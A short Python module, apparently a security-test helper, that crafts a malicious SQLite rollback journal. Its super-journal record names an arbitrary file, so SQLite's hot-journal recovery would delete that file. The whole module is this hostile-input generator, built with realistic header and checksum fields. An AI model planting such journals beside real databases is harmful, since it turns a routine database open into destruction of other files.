"""Journals of SQLite that are made to do harm."""

import struct

MAGIC = bytes.fromhex("d9d505f920a163d7")


def write_journal(path, named):
    """Write a journal that SQLite would roll back, and then delete the file that it names."""
    name = str(named).encode()
    header = struct.pack(">8sIIIII", MAGIC, 0, 7, path.stat().st_size // 4096, 512, 4096)
    ending = struct.pack(">II8s", len(name), sum(name), MAGIC)
    record = struct.pack(">I", 2**30 // 4096 + 1) + name + ending
    path.with_name(f"{path.name}-journal").write_bytes(header.ljust(512, b"\0") + record)
